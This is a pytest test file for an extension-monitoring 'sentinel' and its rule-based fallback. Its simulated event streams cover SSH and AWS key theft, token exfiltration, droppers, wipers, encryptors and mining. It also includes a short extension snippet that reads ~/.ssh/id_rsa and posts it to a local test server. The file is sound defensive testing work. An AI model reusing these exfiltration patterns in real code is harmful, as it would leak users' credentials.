"""The deterministic fallback: the rule table, and when the sentinel falls back to it."""

from __future__ import annotations

import json

import pytest
from sentinel_fixtures import Stream

from frankenengine import ExtensionTerminated
from frankenengine.sentinel import Model, Sentinel
from frankenengine.sentinel.content import Observation
from frankenengine.sentinel.features import FeatureState
from frankenengine.sentinel.rules import RULES, decide

API = "http://127.0.0.1:8080"


def _decisions(stream: Stream, observations=None, declared=None):
    state = FeatureState(declared)
    observations = observations or {}
    return [decide(state.update(e, observations.get(e.seq, Observation()))) for e in stream.events]


def test_benign_streams_match_no_rule():
    s = Stream()
    s.add("fs.list_dir", "/srv/data")
    s.add("fs.read_text", "/srv/data/a.csv")
    s.add("fs.read_text", "/home/u/.config/tool.toml")
    s.add("net.get", f"{API}/v1/items")
    s.add("proc.run", "/usr/bin/cc")
    s.add("fs.write_text", "/srv/out/report.txt")
    s.add("log.info")
    assert {action for action, _, _ in _decisions(s)} == {"allow"}


@pytest.mark.parametrize(
    "build, expected_rule, action",
    [
        (
            lambda s: (s.add("fs.read_text", "/h/.ssh/id_rsa"), s.add("net.post", f"{API}/u")),
            "secret-leaves",
            "terminate",
        ),
        (
            lambda s: (s.add("fs.write_text", "/srv/out/x"), s.add("proc.run", "/srv/out/x")),
            "dropper",
            "terminate",
        ),
        (
            lambda s: (s.add("env.get", "GITHUB_TOKEN"), s.add("net.get", f"{API}/t")),
            "exfiltration",
            "terminate",
        ),
        (
            lambda s: (s.add("fs.read_text", "/h/.aws/credentials"), s.add("proc.run", "/bin/sh")),
            "shell-after-secret",
            "terminate",
        ),
        (
            lambda s: (s.add("clock.time"), s.add("fs.remove", "/srv/out/a")),
            "time-bomb",
            "sandbox",
        ),
        (
            lambda s: (s.add("fs.read_text", "/srv/app/.env"), s.add("fs.write_text", "/o/x")),
            "tainted-output",
            "sandbox",
        ),
        (
            lambda s: [s.add("fs.exists", f"/etc/x{i}", granted=False) for i in range(5)],
            "probing",
            "sandbox",
        ),
        (lambda s: s.add("env.get", "HOME", granted=False), "ungranted", "warn"),
        (lambda s: s.add("proc.run", "/usr/bin/python3"), "shell", "warn"),
        (lambda s: s.add("proc.run", "/bin/sh"), "shell", "warn"),
    ],
)
def test_each_rule(build, expected_rule, action):
    s = Stream()
    build(s)
    observations = {1: Observation("plain", "body")} if expected_rule == "secret-leaves" else {}
    got_action, reason, rule = _decisions(s, observations)[-1]
    assert (rule, got_action) == (expected_rule, action)
    assert reason


def test_sandbox_escape_and_mining_share_terminate():
    s = Stream()
    s.add("fs.write_text", "/srv/out/helper.py")
    s.add("proc.run", "/usr/bin/python3")
    escape = {1: Observation(dropped=True, spawn="escape")}
    assert _decisions(s, escape)[-1][::2] == ("terminate", "sandbox-escape")
    s = Stream()
    s.add("net.get", f"{API}/job", fuel=5)
    s.add("net.post", f"{API}/result", fuel=80_000)
    share = {1: Observation(share=True)}
    assert _decisions(s, share)[-1][::2] == ("terminate", "mining-share")
    s = Stream()
    s.add("net.post", f"{API}/authorize", fuel=5)  # a nonce without CPU burn: not a share
    assert _decisions(s, {0: Observation(share=True)})[-1][0] == "allow"


def test_wiping_many_files_terminates():
    s = Stream()
    for i in range(25):
        s.add("fs.rename", f"/srv/docs/d{i}", other=(f"/srv/docs/d{i}.x",))
    decisions = _decisions(s)
    assert decisions[4][2] == "many-destroyed" and decisions[4][0] == "sandbox"
    assert decisions[-1][2] == "wiper" and decisions[-1][0] == "terminate"


def test_encrypting_files_it_read_terminates():
    s = Stream()
    s.add("fs.read_text", "/srv/docs/a.md")
    s.add("fs.write_text", "/srv/docs/a.md.locked")
    decisions = _decisions(s, {1: Observation(garbled=True)})
    assert decisions[-1][:1] == ("terminate",) and decisions[-1][2] == "encryptor"


def test_the_table_is_ordered_strongest_first():
    strength = {"warn": 1, "sandbox": 3, "terminate": 5}
    ranks = [strength[action] for _, _, action, _ in RULES]
    assert ranks == sorted(ranks, reverse=True)


class _Broken(Model):
    def posterior_log_odds(self, state, prior):
        raise RuntimeError("boom")


@pytest.mark.parametrize(
    "make_model, reason",
    [
        (lambda tmp: None, "model off"),
        (lambda tmp: tmp / "missing.json", "no model file"),
        (lambda tmp: _broken_file(tmp), "malformed model"),
        (lambda tmp: _Broken.from_json(Model.load().to_json()), "model failed: RuntimeError"),
    ],
)
def test_fallback_to_rules_is_exercised_and_recorded(
    tmp_path, home, server, load, make_model, reason
):
    source = """from host import fs, net

def main(base):
    key = fs.read_text("home/.ssh/id_rsa")
    return net.post(base + "/u", key)["status"]
"""
    ledger = tmp_path / "ledger.jsonl"
    grants = {"fs.read": [str(tmp_path)], "net.http": [f"127.0.0.1:{server.port}"]}
    ext, sentinel = load(source, grants, model=make_model(tmp_path), ledger=ledger)
    with pytest.raises(ExtensionTerminated, match="a secret it read is leaving"):
        ext.call("main", server.base)
    assert server.requests == []
    sentinel.close()
    entries = [json.loads(line) for line in ledger.read_text().splitlines()]
    decisions = [e for e in entries if e["kind"] == "decision"]
    assert [e["mode"] for e in decisions] == ["rules", "rules"]
    assert all(reason in e["mode_reason"] for e in decisions)
    assert decisions[-1]["rule"] == "secret-leaves" and decisions[-1]["posterior"] is None
    assert entries[0]["mode"] == ("model" if "failed" in reason else "rules")


def _broken_file(tmp_path):
    path = tmp_path / "broken.json"
    path.write_text(json.dumps({"format": 1, "event_counts": []}))
    return path


def test_an_underfitted_model_is_not_used():
    s = Stream()
    s.add("log.info")
    from frankenengine.sentinel import fit

    few = fit([(False, s.events), (True, s.events)])
    sentinel = Sentinel(few)
    assert sentinel.mode == "rules" and "too few traces" in sentinel.mode_reason
